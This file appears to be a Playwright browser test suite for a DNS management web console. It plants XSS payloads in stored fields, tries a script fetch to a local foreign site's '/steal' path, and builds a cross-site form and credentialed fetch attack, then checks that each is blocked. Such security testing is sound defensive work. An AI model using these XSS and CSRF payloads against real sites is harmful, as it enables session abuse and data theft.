import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import type { Appliance } from '../../helpers/appliance.ts'
import { until } from '../../helpers/until.ts'
import { awaitedValue, go, openZone, part, signIn, visit } from './browser.ts'

const script = '<img src=x onerror=alert(1)><script>alert(2)</script>'
/** In names of accounts, which are shorter. */
const short = '<img src=x onerror=alert(3)>'

/** Writes script into every text that is stored and shown. */
async function poison(server: Appliance): Promise<void> {
  const description = script
  const zone = { name: 'example.com.', email: 'ops@example.com', description }
  await server.json('POST', '/v2/zones', zone)
  const txt = { name: 'txt', type: 'TXT', records: [JSON.stringify(script)], description }
  await server.json('POST', '/v2/zones/example.com./recordsets', txt)
  const name = String.raw`\060script\062alert\0404\041\060\047script\062`
  const odd = { name, type: 'CAA', records: [`0 issue ${JSON.stringify(script)}`], description }
  await server.json('POST', '/v2/zones/example.com./recordsets', odd)
  await server.json('POST', '/v2/pools', {
    name: short,
    description,
    ns_records: [{ hostname: 'ns1.example.net.', priority: 1 }],
  })
  await server.json('POST', '/v2/blacklists', { pattern: script, description })
  await server.json('POST', '/v2/tlds', { name: 'com', description })
  const webhook = { url: 'http://192.0.2.1/<img>', description }
  await server.request('POST', '/v2/webhooks', webhook)
  await server.json('POST', '/identity/v3/projects', { project: { name: short, description } })
  const user = { name: short, password: 'correct horse battery', description }
  await server.json('POST', '/identity/v3/users', { user })
}

/** What a page has that it would have only by taking a text for HTML. */
function foreignElements(page: Page): Promise<number> {
  return page.locator('img[src="x"], script:not([src]), [onerror]').count()
}

t.test('what stands in any text is shown and never run', async t => {
  const { page, server, complaints } = await visit(t)
  await poison(server)
  const opened: string[] = []
  page.on('dialog', dialog => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
  const see = async (where: string, text: string) => {
    await page.getByText(text).first().waitFor()
    t.equal(await foreignElements(page), 0, where)
  }
  await signIn(page)
  await openZone(page, 'example.com.')
  await see('records', 'alert(2)')
  await part(page, 'Text')
  await awaitedValue(page.getByLabel('Zone file'), value => value.includes('alert(2)'))
  t.equal(await foreignElements(page), 0, 'text')
  await part(page, 'History')
  await see('history', 'alert(2)')
  await part(page, 'Settings')
  await awaitedValue(page.getByLabel('Description'), value => value === script)
  t.equal(await foreignElements(page), 0, 'settings')
  await page.keyboard.press('Control+k')
  await page.getByLabel('Zones, names and values').fill('alert')
  await page.locator('.found button').first().waitFor()
  t.equal(await foreignElements(page), 0, 'search')
  await page.keyboard.press('Escape')
  await go(page, 'History')
  await see('history of everything', 'alert(2)')
  await go(page, 'Accounts')
  await see('accounts', 'alert(3)')
  await go(page, 'Webhooks')
  await page.getByRole('heading', { name: 'Webhooks' }).waitFor()
  await page.locator('.data, .empty').first().waitFor()
  t.equal(await foreignElements(page), 0, 'webhooks')
  await go(page, 'Server')
  for (const name of ['Pools', 'Blacklists', 'TLDs']) {
    await part(page, name)
    await see(name, 'alert(2)')
  }
  t.same(opened, [])
  t.same(complaints, [])
})

t.test(
  'a script that does get into a page is not run, and nothing is loaded from elsewhere',
  async t => {
    const { page, complaints } = await visit(t)
    const elsewhere = await otherSite(t, '')
    await page.evaluate(`
    globalThis.ran = []
    const inline = document.createElement('script')
    inline.textContent = 'ran.push("inline")'
    const foreign = document.createElement('script')
    foreign.src = '${elsewhere.url}/script.js'
    const image = document.createElement('img')
    image.setAttribute('onerror', 'ran.push("handler")')
    image.src = '${elsewhere.url}/image.png'
    document.body.append(inline, foreign, image)
    fetch('${elsewhere.url}/steal', { mode: 'no-cors' }).catch(() => ran.push('refused'))
  `)
    await page.waitForFunction('ran.length > 0')
    t.same(await page.evaluate('ran'), ['refused'])
    await until(() => complaints.some(text => text.includes('Content Security Policy')))
    t.same(elsewhere.requests, [], 'nothing has left the page')
  },
)

t.test('another site can neither act nor read in the name of who is signed in', async t => {
  const { page, server } = await visit(t)
  await signIn(page)
  await page.getByText('No zones yet').waitFor()
  const zone = JSON.stringify({ name: 'example.com.', email: 'ops@example.com' })
  const target = `${server.apiUrl}/v2/zones`
  const attack = `<form id="form" method="post" enctype="text/plain" action="${target}" target="_blank">
    <input name='${zone.slice(0, -1)},"x":"' value='"}'></form>
    <iframe src="${server.apiUrl}/console/"></iframe>`
  const elsewhere = await otherSite(t, attack)
  const other = await page.context().newPage()
  await other.goto(elsewhere.url)
  const answers = await other.evaluate(
    async ({ target, zone }) => {
      const asked = (init: RequestInit) =>
        fetch(target, { credentials: 'include', ...init }).then(
          ({ type, status }) => `${type} ${status}`,
          () => 'refused',
        )
      return Promise.all([
        asked({}),
        asked({ method: 'POST', mode: 'no-cors', body: zone }),
        asked({ method: 'POST', headers: { 'content-type': 'application/json' }, body: zone }),
      ])
    },
    { target, zone },
  )
  t.same(answers, ['refused', 'refused', 'refused'])
  const opened = other.context().waitForEvent('page')
  await other.evaluate(`document.getElementById('form').submit()`)
  const answered = await opened
  await answered.getByText('401').first().waitFor()
  const [, frame] = other.frames()
  t.equal(await frame?.locator('#app').count(), 0, 'the console is in no frame')
  const { zones } = await server.json<{ zones: object[] }>('GET', '/v2/zones')
  t.same(zones, [])
})

/** A foreign site, and the requests that it received. */
async function otherSite(t: Test, html: string) {
  const requests: string[] = []
  const site = createServer((request, response) => {
    if (request.url !== '/') requests.push(request.url ?? '')
    response.setHeader('content-type', 'text/html')
    response.end(`<!doctype html>${html}`)
  })
  await new Promise<void>(resolve => site.listen(0, '127.0.0.1', resolve))
  t.teardown(() => site.close())
  return { url: `http://localhost:${(site.address() as AddressInfo).port}`, requests }
}
